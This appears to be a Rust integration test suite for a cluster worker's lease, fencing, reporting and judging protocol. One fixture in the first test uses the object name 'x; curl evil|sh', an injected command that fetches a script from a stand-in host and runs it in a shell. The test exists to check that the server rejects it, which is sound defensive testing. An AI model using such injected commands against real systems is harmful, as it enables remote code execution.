//! The worker of a cluster, played by this test over the real socket: its attempts outlive its
//! process, and what it makes is stored before it makes it.

use chrono::TimeDelta;
use proto::{
    admin::{CheckRequest, EventsRequest},
    v1::{
        AttemptEnded, AttemptLease, AttemptStarted, AttemptWaits, ClusterObject, HelloRequest, JudgeRequest,
        attempt_ended::{Cause, Outcome},
        judge_response::Verdict,
        report_request::What,
    },
};
use tonic::{Code, Status};

use crate::harness::{FIRST_PROCESS, Played, REPOSITORY, SECOND_PROCESS, World, filtered};

fn object(lease: &AttemptLease, digest: char, uid: &str) -> ClusterObject {
    ClusterObject {
        namespace: lease.namespace.clone(),
        name: format!("attempt-{}", lease.attempt_id),
        digest: digest.to_string().repeat(64),
        uid: uid.to_owned(),
    }
}

fn planned(lease: &AttemptLease, digest: char) -> What {
    What::Planned(object(lease, digest, ""))
}

fn created(lease: &AttemptLease, uid: &str) -> What {
    What::Created(object(lease, 'a', uid))
}

fn waits(message: &str) -> What {
    What::Waits(AttemptWaits { message: message.to_owned() })
}

fn ended(cause: Cause, message: &str) -> What {
    What::Ended(AttemptEnded {
        outcome: Outcome::Died.into(),
        message: message.to_owned(),
        cause: cause.into(),
        ..AttemptEnded::default()
    })
}

async fn try_judge(played: &Played, process: &str, found: ClusterObject) -> Result<Verdict, Status> {
    let request = JudgeRequest { found: Some(found), process_id: process.to_owned() };
    Ok(played.worker.clone().judge(request).await?.into_inner().verdict())
}

async fn judged(played: &Played, process: &str, found: ClusterObject) -> Verdict {
    try_judge(played, process, found).await.expect("an answer")
}

async fn asked(world: &World, title: &str) -> u64 {
    let issue = world.issue(title, "Please.");
    world.label(issue, "run:dev");
    issue
}

/// How often a status comment says this.
fn said(world: &World, issue: u64, words: &str) -> bool {
    world.github.comments(REPOSITORY, issue).iter().any(|comment| comment.body.contains(words))
}

/// Planned, then made, then adopted by the next process of the worker; the one before is refused
/// whatever it says, and the run goes on with the same attempt.
#[tokio::test(flavor = "multi_thread")]
async fn an_attempt_in_a_cluster_outlives_the_process_of_its_worker() {
    let played = Played::start().await;
    let world = &played.world;
    let adopted = played.adopt(FIRST_PROCESS).await.expect("nothing to adopt");
    assert!(adopted.attempts.is_empty() && adopted.namespaces.len() == 1, "{adopted:?}");
    let issue = asked(world, "Say hello").await;
    let lease = played.lease(FIRST_PROCESS).await.expect("leased");
    assert_eq!((&lease.namespace, lease.lease_seconds), (&adopted.namespaces[0], 90));

    // Nothing is made before it was planned, and nothing else than what was planned.
    let refused = async |what| {
        let status = played.try_report(&lease, what).await.expect_err("refused");
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
    };
    refused(created(&lease, "u-1")).await;
    refused(What::Planned(ClusterObject { name: "another".to_owned(), ..object(&lease, 'a', "") })).await;
    assert!(played.report(&lease, planned(&lease, 'b')).await);
    assert!(played.report(&lease, planned(&lease, 'a')).await, "nothing was made yet");
    assert!(played.report(&lease, planned(&lease, 'a')).await, "again");
    assert_eq!(
        judged(&played, FIRST_PROCESS, object(&lease, 'a', "u-0")).await,
        Verdict::Recreate,
        "made and never reported"
    );
    refused(What::Created(object(&lease, 'b', "u-1"))).await;
    assert!(played.report(&lease, created(&lease, "u-1")).await);
    assert!(played.report(&lease, created(&lease, "u-1")).await, "again");
    refused(created(&lease, "u-2")).await;
    refused(planned(&lease, 'b')).await;

    // People are told once what it waits for, however often the numbers change.
    let no_room = "No node has room for it";
    assert!(played.report(&lease, waits(&format!("{no_room}: 0/3 nodes are available."))).await);
    assert!(played.report(&lease, waits(&format!("{no_room}: 0/2 nodes are available."))).await);
    world.until("the wait is said", |_| said(world, issue, no_room).then_some(())).await;
    filtered().bind(|| insta::assert_snapshot!("waiting_for_a_cluster", world.comments(issue)[0]));
    let detail = world.get(&lease.run_id).await;
    assert!(detail.run.as_ref().expect("a run").message.contains("0/2 nodes"), "{detail:#?}");
    assert_eq!(detail.events.iter().filter(|event| event.kind == "attempt_waits").count(), 1, "{detail:#?}");
    let explained = world.explain(&lease.run_id).await;
    assert!(explained.iter().any(|e| e.outcome == "waiting" && e.rule.contains(no_room)), "{explained:#?}");

    let adopted = played.adopt(SECOND_PROCESS).await.expect("adopted").attempts;
    let again = played.adopt(SECOND_PROCESS).await.expect("the same").attempts;
    assert_eq!(adopted, again);
    let [adopted] = adopted.as_slice() else { panic!("{adopted:#?}") };
    assert_eq!(adopted.object, Some(object(&lease, 'a', "u-1")));
    let second = adopted.lease.clone().expect("a lease");
    assert_eq!((&second.attempt_id, second.fence), (&lease.attempt_id, lease.fence + 1));

    // Nothing that the earlier process hears may read as if the attempt were over: it would remove
    // what the present one has just adopted.
    let back = ended(Cause::Unspecified, "it is back");
    let refused = [
        played.try_beat(FIRST_PROCESS, &lease).await.expect_err("not the present one"),
        // It was found to be the present one a moment ago.
        played.try_beat(SECOND_PROCESS, &lease).await.expect_err("an old fence"),
        played.try_report(&lease, waits("Its node is away")).await.expect_err("an old fence"),
        played.try_report(&lease, back).await.expect_err("an old fence"),
        try_judge(&played, FIRST_PROCESS, object(&lease, 'a', "u-1")).await.expect_err("not the present one"),
        played.lease(FIRST_PROCESS).await.expect_err("not the present one"),
        played.adopt(FIRST_PROCESS).await.expect_err("not the present one"),
    ];
    assert!(refused.iter().all(|status| status.code() == Code::FailedPrecondition), "{refused:?}");
    assert!(played.beat(SECOND_PROCESS, &second).await.is_empty());

    let started = AttemptStarted { isolation: "pod on node-1".to_owned(), unsandboxed: false };
    assert!(played.report(&second, What::Started(started)).await);
    world.until("it waits no more", |_| (!said(world, issue, no_room)).then_some(())).await;
    assert!(played.report(&second, waits("Its image is fetched")).await, "late, and it changes nothing");
    played.runner(&second).hello(HelloRequest::default()).await.expect("an assignment");
    let detail = played.until_state(&second, "running").await;
    assert_eq!((detail.attempts.len(), detail.attempts[0].waits_for.as_str()), (1, ""), "{detail:#?}");

    // What is in the cluster is held against what is stored.
    assert_eq!(judged(&played, SECOND_PROCESS, object(&second, 'a', "u-1")).await, Verdict::Ours);
    let forged = ClusterObject { name: "attempt-forged".to_owned(), ..object(&second, 'a', "u-9") };
    for foreign in [object(&second, 'b', "u-1"), object(&second, 'a', "u-2"), forged.clone(), forged] {
        assert_eq!(judged(&played, SECOND_PROCESS, foreign).await, Verdict::Foreign);
    }
    // People are told these names in commands, and a namespace of nobody's is in no record.
    let pasted = ClusterObject { name: "x; curl evil|sh".to_owned(), ..object(&second, 'a', "u-9") };
    let refused = try_judge(&played, SECOND_PROCESS, pasted).await.expect_err("no such name");
    assert_eq!(refused.code(), Code::InvalidArgument, "{refused:?}");
    let elsewhere = ClusterObject { namespace: "callboard-other".to_owned(), ..object(&second, 'a', "u-10") };
    assert_eq!(judged(&played, SECOND_PROCESS, elsewhere).await, Verdict::Foreign);
    let message = "The agent used more memory than the 4096 MiB it may have";
    assert!(played.report(&second, ended(Cause::OutOfMemory, message)).await);
    world.cancel(&played.busy).await.expect("cancelled");
    let run = world.finished(&second.run_id).await.run.expect("a run");
    assert_eq!((run.state.as_str(), run.class.as_str()), ("failed", "user"));
    assert!(run.message.contains("4096 MiB"), "{}", run.message);
    assert_eq!(judged(&played, SECOND_PROCESS, object(&second, 'a', "u-1")).await, Verdict::Over);

    let request = EventsRequest { after: 0, project: "demo".to_owned(), follow: false };
    let mut events = world.admin().events(request).await.expect("events").into_inner();
    let mut refused = Vec::new();
    while let Some(event) = events.message().await.expect("an event") {
        if event.action == "agent_run.refused" {
            refused.push(event.subject);
        }
    }
    assert_eq!(refused.len(), 3, "each once: {refused:?}");
    let findings = world.admin().check(CheckRequest {}).await.expect("findings").into_inner().findings;
    let found = findings.iter().find(|finding| finding.probe == "agent runs").expect("a finding");
    assert!(found.found.starts_with("3 of somebody else"), "{found:#?}");
    played.world.end().await;
}

/// Nobody could be heard while the control plane was away: what went on well in a cluster goes on.
#[tokio::test(flavor = "multi_thread")]
async fn a_control_plane_that_was_away_loses_no_attempt_in_a_cluster() {
    let mut played = Played::start().await;
    played.adopt(FIRST_PROCESS).await.expect("nothing to adopt");
    asked(&played.world, "Say hello").await;
    let lease = played.lease(FIRST_PROCESS).await.expect("leased");
    assert!(played.report(&lease, planned(&lease, 'a')).await);
    played.world.down().await;
    played.silence(&lease).await;
    played.world.up().await;
    // The watchdog has looked once it has ended what ended with the platform.
    played.world.clock.advance(TimeDelta::seconds(10));
    played.world.until_run(&played.busy, "a second attempt", |detail| detail.attempts.len() == 2).await;
    let detail = played.world.get(&lease.run_id).await;
    assert_eq!(detail.attempts[0].state, "leased", "{detail:#?}");
    assert!(played.beat(FIRST_PROCESS, &lease).await.is_empty());
    played.world.cancel(&lease.run_id).await.expect("cancelled");
    played.end().await;
}

/// A project in whose namespace somebody makes object after object is not told of each.
#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_ours_is_noted_a_hundred_times_a_day() {
    let played = Played::start().await;
    let adopted = played.adopt(FIRST_PROCESS).await.expect("nothing to adopt");
    for number in 0..102 {
        let forged = ClusterObject {
            namespace: adopted.namespaces[0].clone(),
            name: format!("forged-{number}"),
            uid: format!("u-{number}"),
            ..ClusterObject::default()
        };
        assert_eq!(judged(&played, FIRST_PROCESS, forged).await, Verdict::Foreign);
    }
    let noted = sqlx::query_scalar::<_, i64>("select count(*) from foreign_objects");
    assert_eq!(noted.fetch_one(&mut played.world.db().await).await.expect("a count"), 100);
    played.end().await;
}

/// What the cluster did is tried again, or ends the run, with the worker's sentence. What was never
/// planned is lost with its process, as with any worker.
#[tokio::test(flavor = "multi_thread")]
async fn what_a_cluster_did_decides_what_follows() {
    let played = Played::start().await;
    let world = &played.world;
    played.adopt(FIRST_PROCESS).await.expect("nothing to adopt");
    asked(world, "Say hello").await;
    let first = played.lease(FIRST_PROCESS).await.expect("leased");
    let adopted = played.adopt(SECOND_PROCESS).await.expect("nothing to adopt").attempts;
    assert!(adopted.is_empty(), "{adopted:#?}");
    played.until_state(&first, "lost").await;

    world.clock.advance(TimeDelta::seconds(10));
    let second = played.lease(SECOND_PROCESS).await.expect("leased again");
    let evicted = "Its node made room for something else: the node was low on memory";
    assert!(played.report(&second, ended(Cause::Evicted, evicted)).await);
    let detail = played.until_state(&second, "lost").await;
    let run = detail.run.expect("a run");
    assert_eq!(run.state, "queued");
    assert!(run.message.contains(evicted) && run.message.contains("Trying again"), "{}", run.message);

    world.clock.advance(TimeDelta::seconds(20));
    let third = played.lease(SECOND_PROCESS).await.expect("leased again");
    let image = "Its image `registry/agent:1` cannot be fetched: not found";
    assert!(played.report(&third, ended(Cause::Image, image)).await);

    // Whoever may change Jobs does not decide what a run's time is.
    asked(world, "Say goodbye").await;
    let fourth = played.lease(SECOND_PROCESS).await.expect("leased");
    assert!(played.report(&fourth, ended(Cause::Deadline, "Its Job took too long")).await);
    let run = played.until_state(&fourth, "lost").await.run.expect("a run");
    assert!(run.message.contains("not the platform's"), "{}", run.message);
    world.cancel(&fourth.run_id).await.expect("cancelled");

    world.cancel(&played.busy).await.expect("cancelled");
    let detail = world.finished(&third.run_id).await;
    let run = detail.run.expect("a run");
    assert_eq!(
        (run.state.as_str(), run.class.as_str(), run.message.as_str()),
        ("failed", "infrastructure", image)
    );
    assert_eq!(detail.attempts.len(), 3);
    played.world.end().await;
}
